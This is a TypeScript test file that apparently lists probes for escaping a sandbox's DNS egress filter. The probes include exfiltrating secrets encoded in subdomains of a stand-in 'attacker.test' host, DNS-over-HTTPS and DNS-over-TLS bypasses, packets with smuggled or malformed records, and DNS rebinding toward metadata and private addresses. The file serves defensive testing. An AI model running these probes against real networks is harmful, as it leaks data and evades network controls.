import { attempts } from './attempt.ts';

const rebound = [
  'private',
  'loopback',
  'any',
  'metadata',
  'host',
  'host-public',
  'gateway',
  'neighbour',
  'source',
  'proxy',
  'platform',
  'broadcast',
  'multicast',
  'alias',
  'chain',
  'azure',
  'ecs',
  'alibaba',
  'oracle',
  'carrier',
  'home',
  'link',
  'reserved',
];

/** Past the names, by name resolution. */
export const names = attempts('names', 'names', {
  'a question for another name': "ask(RESOLVER, 'other.test')",
  'a question for another name by TCP': "ask_tcp(RESOLVER, 'other.test')",
  'a secret in a name': "ask(RESOLVER, 'c2VjcmV0.attacker.test', kind=16)",
  'secrets in many names':
    "each(lambda n: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(question(f'part{n}.attacker.test'), (RESOLVER, 53)), 200); time.sleep(1)",
  'a name below an exact one': "ask(RESOLVER, 'c2VjcmV0.allowed.test')",
  'a name server of the attacker': "ask(ATTACKER, 'allowed.test')",
  'a name server of the attacker by TCP': "ask_tcp(ATTACKER, 'allowed.test')",
  'another public resolver': "ask(ANYCAST, 'allowed.test')",
  'the resolver on another port': "udp(RESOLVER, 5353, question('allowed.test'))",
  'the resolver by TLS': "tcp(RESOLVER, 853, hello(server_names('dns.google')))",
  'the resolver by HTTPS': "tls(RESOLVER, 'dns.google')",
  'a resolver by HTTPS under an allowed name': "tcp(RESOLVER, 443, hello(server_names('dns.google')))",
  'two questions': "ask(RESOLVER, 'allowed.test', count=2)",
  'an allowed question, and another behind it':
    "udp(RESOLVER, 53, question('allowed.test') + question('other.test')[12:])",
  'an allowed question, and another on the same connection':
    "q, r = question('allowed.test'), question('secret.attacker.test'); tcp(RESOLVER, 53, struct.pack('>H', len(q)) + q + struct.pack('>H', len(r)) + r)",
  'a dot inside of a label':
    "ask(RESOLVER, '', raw=b'\\x06a.wild\\x04test\\x00'); ask(RESOLVER, '', raw=b'\\x0bsecret.wild\\x04test\\x00')",
  'a name that points to itself':
    "udp(RESOLVER, 53, struct.pack('>6H', 7, 0x100, 1, 0, 0, 0) + b'\\xc0\\x0c' + struct.pack('>2H', 1, 1))",
  'a name that points ahead':
    "udp(RESOLVER, 53, struct.pack('>6H', 7, 0x100, 1, 0, 0, 0) + b'\\x07allowed\\xc0\\x1a' + struct.pack('>2H', 1, 1) + b'\\x04test\\x00')",
  'a question for everything': "ask(RESOLVER, 'allowed.test', kind=255)",
  'a question of another class': "udp(RESOLVER, 53, question('allowed.test')[:-2] + struct.pack('>H', 3))",
  'an update of a zone': "ask(RESOLVER, 'attacker.test', flags=5 << 11)",
  'a notification of a zone': "ask(RESOLVER, 'attacker.test', flags=4 << 11)",
  'an answer instead of a question': "ask(RESOLVER, 'other.test', flags=0x8180)",
  'a question that is cut off': "udp(RESOLVER, 53, question('other.test')[:-3]); udp(RESOLVER, 53, b'\\0' * 11)",
  'a secret in an option':
    "ask(RESOLVER, 'allowed.test', extra=b'\\0' + struct.pack('>HHIH', 41, 4096, 0, 10) + struct.pack('>HH', 65001, 6) + b'secret')",
  'a secret behind the question': "udp(RESOLVER, 53, question('allowed.test') + b'secret of the sandbox')",
  'a record in the question':
    "udp(RESOLVER, 53, struct.pack('>6H', 7, 0x100, 1, 1, 0, 0) + question('allowed.test')[12:] + b'\\x06secret\\0' + struct.pack('>HHIH', 16, 1, 0, 7) + b'\\x06secret')",
  'the forwarder itself': "udp(PROXY, 5353, question('other.test'))",
  ...Object.fromEntries(
    rebound.flatMap(name => [
      [`a name that leads to a protected address: ${name}, HTTP`, `get(WILD, '${name}.wild.test')`],
      [`a name that leads to a protected address: ${name}, HTTPS`, `tls(WILD, '${name}.wild.test')`],
    ]),
  ),
  'a name at a public address and private ones': "each(lambda _: get(WILD, 'public-then-private.wild.test'), 6)",
  'a name that changes its address, by HTTPS': "each(lambda _: tls(WILD, 'rebinding.wild.test'), 6)",
  'a name that changes its address': "each(lambda _: get(WILD, 'rebinding.wild.test'), 6)",
});
